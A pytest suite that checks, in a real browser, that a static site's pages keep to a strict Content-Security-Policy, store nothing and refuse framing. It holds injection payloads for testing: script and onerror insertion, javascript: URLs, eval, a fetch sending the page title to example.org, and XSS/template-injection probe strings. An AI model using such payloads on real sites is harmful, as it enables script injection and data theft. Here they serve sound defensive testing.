"""What pages may load, run, send and keep: every page in a real browser, with its policy, and with nothing that it breaks."""

from __future__ import annotations

import json
import re
import shutil
import xml.etree.ElementTree as ET
from functools import partial
from html.parser import HTMLParser
from http.server import ThreadingHTTPServer
from threading import Thread

import conftest
import pytest
import yaml
from run import FORMS, HOSTILE, OPEN_SHADOWS, QUICK, STANDARD, answer_all, open_step, random_answers
from test_command import PROJECT, balcony, project, wait_until  # noqa: F401  # `project` is a fixture
from test_opening import content_of
from test_results_out import open_more, taken
from test_saving import EVERYTHING_KEPT, NOTHING, save, settle
from test_team_page import TEAM, gather, paste, team_of

from generator import content_security
from generator.content_security import protected

DESKTOP = {"width": 1280, "height": 800}
HOST = PROJECT / "content" / "guide" / "host.md"

# Runs before anything of the page, and tells what the page should not do.
WATCH = """() => {
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, target }) =>
        tell(`not allowed by ${violatedDirective}: ${blockedURI} ${target.nodeName}`), true);
    const heed = (of, name) => {
        const does = of?.[name];
        if (does) of[name] = function (...given) { tell(`${name}: ${given[0]}`); return does.apply(this, given); };
    };
    heed(globalThis.Storage?.prototype, "setItem");
    heed(globalThis.IDBFactory?.prototype, "open");
    heed(globalThis.CacheStorage?.prototype, "open");
    heed(globalThis.ServiceWorkerContainer?.prototype, "register");
    heed(globalThis.CookieStore?.prototype, "set");
    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    Object.defineProperty(document, "cookie", { ...cookie, set: (value) => tell(`cookie: ${value}`) });
}"""

# Beside `EVERYTHING_KEPT`. A page from disk has no such places.
KEPT_ELSEWHERE = """async () => location.protocol === "file:" ? [] : [
    ...(await caches.keys()),
    ...(await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope),
]"""


@pytest.fixture
def watched(open_page):
    """Open a page of which `told` lists what it did and should not; console errors and other sites fail the test anyway."""

    def open_(**options):
        page = open_page(**{"viewport": DESKTOP, **options})
        page.told = []
        page.context.expose_function("tell", lambda what: page.told.append(what))  # noqa: PLW0108  # it takes no method
        page.context.add_init_script(f"({WATCH})()")
        page.on("dialog", lambda each: each.accept() if each.type == "beforeunload" else pytest.fail(each.message))
        return page

    return open_


def everything_kept(page):
    assert page.context.cookies() == []
    assert page.evaluate(KEPT_ELSEWHERE) == []
    return page.evaluate(EVERYTHING_KEPT)


def pages_of(site):
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))


class _Head(HTMLParser):
    """What stands in a page's head, and every script, style and attribute in all of it."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def policy_of(html):
    """The directives of a page's one policy, by name."""
    found = [of["content"] for tag, of in _Head(html).tags if of.get("http-equiv") == "Content-Security-Policy"]
    assert len(found) == 1
    return {name: values.split() for name, _, values in (each.partition(" ") for each in found[0].split(";"))}


# Each page


@pytest.fixture(scope="module")
def of_zensical(tmp_path_factory):
    """The real site, built by the second engine."""
    folder = tmp_path_factory.mktemp("zensical") / "project"
    for name in ("content", "framework", "generator"):
        shutil.copytree(PROJECT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(PROJECT / "mkdocs.yml", folder)
    built = balcony("build", "--engine", "zensical", "--strict", cwd=folder)
    assert built.returncode == 0, built.stdout + built.stderr
    return folder / "site"


@pytest.fixture(params=["mkdocs", "zensical"])
def site(request):
    """The real site, by either engine."""
    return request.getfixturevalue("built_site" if request.param == "mkdocs" else "of_zensical")


def test_no_page_of_the_site_does_what_its_policy_forbids_nor_keeps_anything(site, serve, watched):
    page, address = watched(), serve(site)
    for name in pages_of(site):
        page.goto(address + name)
        page.wait_for_load_state("networkidle")
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        assert (name, page.told) == (name, [])
    assert everything_kept(page) == NOTHING


def test_the_search_finds_and_shows_what_it_found(site, serve, watched):
    page, address = watched(), serve(site)
    page.add_init_script(OPEN_SHADOWS)
    page.goto(address + "about/privacy/")
    page.locator(".md-search__input, .md-search__button").first.click()
    page.keyboard.type("six ways of leading")
    page.locator("a[href*='framework/six-ways/']:visible").first.click()
    page.wait_for_url("**/framework/six-ways/**")
    assert page.told == []
    assert everything_kept(page) == NOTHING


def test_only_a_choice_of_colours_is_kept_by_pages_to_read(site_address, watched):
    page = watched()
    page.goto(site_address)
    page.get_by_title("Use light colours").click()
    assert [each.partition(": ")[2] for each in page.told] == ["/.__palette"]
    page.goto(site_address + "framework/")
    page.get_by_title("Use dark colours").click()
    page.get_by_title("Use the colours of this device").click()
    assert everything_kept(page) == NOTHING


def test_every_page_says_what_it_may_before_it_loads_anything(site):
    names = pages_of(site)
    assert len(names) > 40
    for name in names:
        (_, *tags) = [each for each in _Head((site / name).read_text(encoding="utf-8")).tags if each[0] != "html"]
        assert list(tags[0][1]) == ["charset"], name
        assert tags[1][1].get("http-equiv") == "Content-Security-Policy", name
        assert tags[2] == ("meta", {"name": "referrer", "content": "no-referrer"}), name


def test_no_policy_allows_more_than_the_page_needs(site, framework):
    bare = {path + "index.html" for path in (*FORMS.values(), TEAM)}
    alone = {f"{path}{framework.id}-{form}.html" for form, path in FORMS.items()}
    for name in pages_of(site):
        rules = policy_of((site / name).read_text(encoding="utf-8"))
        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"], name
        allowed = {each for values in rules.values() for each in values if not each.startswith("'sha256-")}
        assert allowed <= {"'none'", "'self'", "data:"}, name
        if name in alone:
            assert "'self'" not in allowed
            assert set(rules) == {"default-src", "script-src", "style-src", "img-src", "base-uri", "form-action"}
        else:
            assert "data:" not in {*rules["script-src"], *rules["style-src"]}, name
        if name in bare:
            directives = {"default-src", "script-src", "style-src", "img-src", "connect-src", "base-uri", "form-action"}
            assert set(rules) == directives
            assert rules["connect-src"] == rules["style-src"] == rules["img-src"] == ["'self'"]
            assert len(rules["script-src"]) == 2  # the site's own, and the import map


# What somebody managed to put into a page, each with the directive that stops it.
ATTACKS = {
    "script": ("script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { text: 'reached()' }))"),
    "attribute": ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=reached()>')"),
    "address": ("script-src-elem", "location.href = 'javascript:reached()'"),
    "eval": ("script-src", "setTimeout(() => { try { eval('reached()') } catch {} })"),
    "script of another site": (
        "script-src-elem",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.org/x.js' }))",
    ),
    "request": ("connect-src", "fetch('https://example.org/?' + document.title).then(() => reached(), () => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon('https://example.org/', 'x')"),
    "picture": ("img-src", "new Image().src = 'https://example.org/x.png'"),
    "style": ("style-src-elem", "document.head.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))"),
    "frame": ("frame-src", "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org/></iframe>')"),
    "base": ("base-uri", "document.head.insertAdjacentHTML('afterbegin', '<base href=https://example.org/>')"),
    "form": (
        "form-action",
        "document.body.insertAdjacentHTML('beforeend', '<form id=evil action=https://example.org/><input></form>'); evil.submit()",
    ),
}  # fmt: skip


@pytest.fixture
def addresses(site_address, built_site, framework):
    """A page of each kind."""
    alone = built_site / QUICK / f"{framework.id}-quick.html"
    return {"alone": alone.as_uri(), **{path: site_address + path for path in ("", QUICK, TEAM)}}


@pytest.mark.parametrize("path", ["", QUICK, TEAM, "alone"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_put_into_a_page_runs_nothing_and_reaches_nobody(path, attack, watched, addresses, faults):
    page, reached = watched(), []
    page.expose_function("reached", lambda: reached.append(attack))
    page.context.route("https://example.org/**", lambda route: (reached.append(route.request.url), route.abort()))
    page.goto(addresses[path])
    directive, script = ATTACKS[attack]
    page.evaluate(f"() => {{ {script} }}")
    wait_until(lambda: page.evaluate("1") and any(each.startswith(f"not allowed by {directive}") for each in page.told))
    assert reached == []
    faults.clear()  # the browser says what it does not allow


def test_a_link_to_another_site_does_not_say_where_it_was_followed(site_address, watched, faults):
    page = watched()
    for path in ("framework/sources/", STANDARD):
        page.goto(site_address + path)
        page.context.route("https://example.org/", lambda route: route.fulfill(body=""))
        page.evaluate("""() => document.querySelector("main").insertAdjacentHTML(
            "afterbegin", '<a href="https://example.org/">another</a>')""")
        with page.expect_request("https://example.org/") as asked:
            page.get_by_role("link", name="another", exact=True).click()
        assert "referer" not in asked.value.all_headers()
    faults.clear()  # it was meant to go there


# Runs


def take_out_everything(page):
    """Press all that the results, with what they fetch, and the plan offer."""
    open_more(page)
    for name in ("Download the result (JSON)", "Download the answers (CSV)"):
        taken(page, page.get_by_role("button", name=name))
    earlier = content_of(taken(page, page.get_by_role("button", name="Download my answers")))
    taken(page, page.get_by_role("button", name="Download the picture (SVG)").first)
    for name in ("Copy the summary", "Make a link", "Copy the link", "Make a short code", "Copy the code"):
        page.get_by_role("button", name=name).click()
    page.evaluate("window.print = () => {}")
    for name in ("Print the report", "Print the pocket card"):
        page.get_by_role("button", name=name).click()
    page.get_by_label("Open an earlier sheet beside this one").set_input_files(
        {"name": "a.balcony.json", "mimeType": "application/json", "buffer": earlier}
    )
    page.locator("[data-beside] li").wait_for()
    open_step(page, "plan")
    page.locator("#plan select").first.select_option(index=5)
    page.get_by_role("button", name="Add a line").click()
    page.locator("#plan textarea").first.fill("=1+1")
    page.get_by_label("By when?").first.fill("2031-01-01")
    for name in ("Download the plan (CSV)", "Download for your calendar (.ics)"):
        taken(page, page.get_by_role("button", name=name))


def run_through(page, framework, form):
    """Fill in all that can be filled in, look at every step, and take out everything."""
    page.get_by_label("Which piece of work").fill(HOSTILE)
    for radio in page.locator(".context label:first-of-type input").all():
        radio.check()
    first = framework.asked(form)[0].id
    given = {each.id: 3 for each in framework.asked(form)} | random_answers(framework, form, 3)
    answer_all(page, {**given, first: "not-sure"})
    open_step(page, framework.sections[0].id)
    page.locator(f'[name="{first}.note"]').evaluate("($note) => { $note.closest('details').open = true }")
    page.locator(f'[name="{first}.note"]').fill(HOSTILE)
    page.evaluate("document.querySelector('[name=warning_signs]').click()")
    for step in page.locator("[data-step]:not(#clear)").evaluate_all("(all) => all.map(({ id }) => id)"):
        open_step(page, step)
    take_out_everything(page)


@pytest.mark.parametrize("form", FORMS)
def test_a_whole_run_keeps_to_the_policy_and_keeps_nothing(form, watched, site_address, framework):
    page = watched(permissions=["clipboard-read", "clipboard-write"])
    page.goto(site_address + FORMS[form])
    run_through(page, framework, form)
    page.wait_for_load_state("networkidle")
    assert page.told == []
    assert everything_kept(page) == NOTHING


@pytest.mark.parametrize("form", FORMS)
def test_a_saved_run_keeps_what_the_privacy_page_says_and_nothing_once_it_is_cleared(
    form, watched, site_address, framework
):
    page = watched(permissions=["clipboard-read", "clipboard-write"])
    page.goto(site_address + FORMS[form])
    save(page)
    run_through(page, framework, form)
    settle(page)
    page.reload()
    page.get_by_text("Saved on this device, with every change.").wait_for()
    name = f"balcony:/:{framework.id}"
    told = set(page.told)
    kept = everything_kept(page)
    assert (kept["databases"], list(kept["session"]), kept["local"]) == ([name], [name], {})
    assert told == {f"open: {name}", f"setItem: {name}"}
    page.get_by_role("button", name="Clear my answers").click()
    page.get_by_role("button", name="Yes, clear").click()
    page.get_by_text("cleared").first.wait_for()
    assert everything_kept(page) == NOTHING


@pytest.mark.parametrize("form", FORMS)
def test_a_whole_run_from_disk_keeps_to_the_policy(form, watched, built_site, framework):
    page = watched(offline=True, permissions=["clipboard-read", "clipboard-write"])
    page.goto((built_site / FORMS[form] / f"{framework.id}-{form}.html").as_uri())
    save(page)
    run_through(page, framework, form)
    assert [each for each in page.told if "balcony:" not in each] == []


def test_a_team_is_looked_at_within_the_policy_and_nothing_of_it_is_kept(watched, site_address, framework):
    page = watched(permissions=["clipboard-read", "clipboard-write"])
    page.goto(site_address + TEAM)
    page.get_by_label("Name of the team").fill(HOSTILE)
    page.locator("[name=work]").fill(HOSTILE)
    for name in ("Write the invitation", "Copy the invitation"):
        page.get_by_role("button", name=name).click()
    page.get_by_role("group", name="Form").wait_for()
    gather(page, team_of(framework, 12, team=HOSTILE, context={"setting": "partnership"}))
    paste(page, "No code at all")
    open_step(page, "view")
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })")
    page.get_by_label("Compare parts of the team by").select_option("setting")
    taken(page, page.get_by_role("button", name="Download the team view (JSON)"))
    page.evaluate("window.print = () => {}")
    for name in ("Print", "Print everything"):
        page.get_by_role("button", name=name, exact=True).click()
    open_step(page, "agenda")
    page.get_by_role("button", name="Copy the agenda").click()
    open_step(page, "one")
    page.get_by_role("button", name="Next").click()
    open_step(page, "agree")
    page.locator("[data-agree] input[type=radio]").first.check(force=True)
    taken(page, page.get_by_role("button", name="Download the agreed sheet"))
    page.wait_for_load_state("networkidle")
    assert page.told == []
    assert everything_kept(page) == NOTHING


# Pages made to order


ODD = """<!doctype html>
<html lang="en"><HEAD data-a="b">
<META CHARSET=utf-8><title>R&D</title><link rel="icon" href="data:,">
<!-- <script>tell("in a comment")</script> -->
<link rel="stylesheet" href="a.css">
<style>#one { color: rgb(1, 2, 3) }</style>
<script>document.documentElement.dataset.first = "Môn 🙂";
</script>
<SCRIPT Type="module">document.documentElement.dataset.second = import.meta.url.length > 0;</SCRIPT>
<script type="application/json">{"a": "<style>"}</script>
<script type="application/ld+json">{}</script>
</head><body>
<p id="one">1</p><p id="two" style="color: rgb(4, 5, 6); content: &quot;a&quot;">2</p><p id="three" style='color: rgb(7, 8, 9)'>3</p>
<pre>&lt;p style="color: red"&gt;</pre>
<img alt="" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<audio src="a.wav"></audio>
<script src="a.js"></script>
</body></html>
"""


def test_what_an_author_writes_into_a_page_still_works_and_is_all_that_does(tmp_path, serve, watched):
    (tmp_path / "a.css").write_text("body { margin: 7px }", encoding="utf-8")
    (tmp_path / "a.js").write_text("document.documentElement.dataset.third = 'file';", encoding="utf-8")
    (tmp_path / "a.wav").write_bytes(b"RIFF")
    (tmp_path / "index.html").write_bytes(ODD.encode())
    content_security.publish(tmp_path)
    page = watched()
    page.goto(serve(tmp_path))
    page.wait_for_load_state("networkidle")
    assert page.evaluate("({ ...document.documentElement.dataset })") == {
        "first": "Môn 🙂",
        "second": "true",
        "third": "file",
    }
    colours = "(all) => all.map(($each) => getComputedStyle($each).color)"
    assert page.locator("p").evaluate_all(colours) == ["rgb(1, 2, 3)", "rgb(4, 5, 6)", "rgb(7, 8, 9)"]
    assert page.locator("img").evaluate("($image) => $image.naturalWidth") == 1
    assert page.told == []
    rules = policy_of((tmp_path / "index.html").read_text(encoding="utf-8"))
    assert len([each for each in rules["script-src"] if "sha256" in each]) == 2
    assert rules["style-src"].count("'unsafe-hashes'") == 1
    assert rules["media-src"] == ["'self'"]


def test_a_page_has_one_policy_however_often_its_site_is_finished():
    once = protected(ODD)
    assert protected(once) == once
    assert once.index("http-equiv") < 200  # the browser looks for what says how it is written in the first 1,024 bytes
    changed = once.replace("R&D", "R").replace('dataset.first = "', 'dataset.first = "x')
    assert policy_of(protected(changed)) != policy_of(once)
    assert protected(changed).count("http-equiv") == 1


def test_the_page_that_leads_to_a_version_has_the_policy_that_it_needs():
    text = (PROJECT / "generator" / "templates" / "publish" / "redirect.html").read_text(encoding="utf-8")
    assert protected(text) == text
    assert set(policy_of(text)) == {"default-src", "script-src", "img-src", "base-uri", "form-action"}


# Hosts


def headers_of_hosts():
    """What the page for hosts lets each of them send, by host."""
    blocks = re.findall(r"```(\w+)\n(.*?)```", HOST.read_text(encoding="utf-8"), re.DOTALL)
    by_language = dict(blocks)
    custom = ET.fromstring(by_language["xml"]).iter("add")
    return {
        "nginx": dict(re.findall(r'add_header (\S+) "([^"]*)" always;', by_language["nginx"])),
        "IIS": {each.attrib["name"]: each.attrib["value"] for each in custom if "name" in each.attrib},
        "Azure": json.loads(by_language["json"])["globalHeaders"],
        "Cloudflare and Netlify": dict(re.findall(r"^  (\S+): (.*)$", by_language["text"], re.MULTILINE)),
    }


def test_every_host_is_told_to_send_the_same():
    first, *others = headers_of_hosts().values()
    assert all(each == first for each in others)
    assert first["X-Content-Type-Options"] == "nosniff"
    assert first["Referrer-Policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in first["Content-Security-Policy"]
    assert {"Permissions-Policy", "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy", "Cache-Control"} < {
        *first
    }


@pytest.fixture
def on_a_host(built_site):
    """The site, on a host that sends what the page for hosts says."""
    headers = headers_of_hosts()["nginx"]

    class Handler(conftest._Handler):
        def end_headers(self):
            for each in headers.items():
                self.send_header(*each)
            super().end_headers()

    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(built_site))) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def test_on_a_host_that_sends_it_all_everything_still_works(on_a_host, watched, framework):
    page = watched(permissions=["clipboard-read", "clipboard-write"])
    for path in ("", "framework/six-ways/", TEAM):
        page.goto(on_a_host + path)
        page.wait_for_load_state("networkidle")
    page.goto(on_a_host + QUICK)
    run_through(page, framework, "quick")
    assert page.told == []


def test_on_such_a_host_no_other_page_can_show_the_site_inside_it(on_a_host, open_page, serve, tmp_path, faults):
    (tmp_path / "index.html").write_text(f'<!doctype html><iframe src="{on_a_host}{QUICK}"></iframe>', encoding="utf-8")
    page = open_page()
    page.goto(serve(tmp_path))
    page.wait_for_load_state("networkidle")
    assert page.frames[1].url.startswith("chrome-error:")
    assert faults
    faults.clear()


# Texts that want to be more

SLY = """" onfocus="alert(1)" ' {{ 7*7 }} {% x %} &lt;img src=x&gt; [x](javascript:alert(1)) **b** `c` 1 < 2 領導 🙂"""
"""What a framework may hold: what looks like HTML is refused before anything is built."""


def hostile_project(project):  # noqa: F811
    """Put hostile text behind every text of the framework that people read."""
    keep = {"id", "url", "source", "version", "rule", "licence", "formerly", "messages", "settings", "organisation"}

    def evil(value, key=""):
        if isinstance(value, dict):
            return {name: each if name in keep else evil(each, str(name)) for name, each in value.items()}
        if isinstance(value, list):
            return [evil(each, key) for each in value]
        return f"{value} {SLY}" if isinstance(value, str) and (" " in value or key in ("name", "label")) else value

    framework = project / "framework"
    shutil.rmtree(framework / "releases", ignore_errors=True)
    for path in framework.rglob("*.yml"):
        data = evil(yaml.safe_load(path.read_text(encoding="utf-8")))
        if path.name == "framework.yml":
            data["writing_rules"] = "off"
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def test_hostile_text_of_a_framework_is_inert_on_every_page_that_is_built_from_it(project, serve, watched):  # noqa: F811
    hostile_project(project)
    built = balcony("build", "--strict", cwd=project)
    assert built.returncode == 0, built.stdout + built.stderr
    page, address, shown = watched(), serve(project / "site"), 0
    for name in pages_of(project / "site"):
        page.goto(address + name)
        page.wait_for_load_state("networkidle")
        assert page.locator("img[src=x], [onfocus], [href^='javascript:']").count() == 0, name
        shown += page.evaluate("(text) => document.body.textContent.split(text).length - 1", SLY)
    assert shown > 1000
    page.goto(address)
    page.locator(".md-search__input").click()
    page.keyboard.type("onfocus")
    page.locator(".md-search-result__link:visible").first.wait_for()
    assert page.locator("img[src=x], [onfocus], [href^='javascript:']").count() == 0
    assert page.told == []
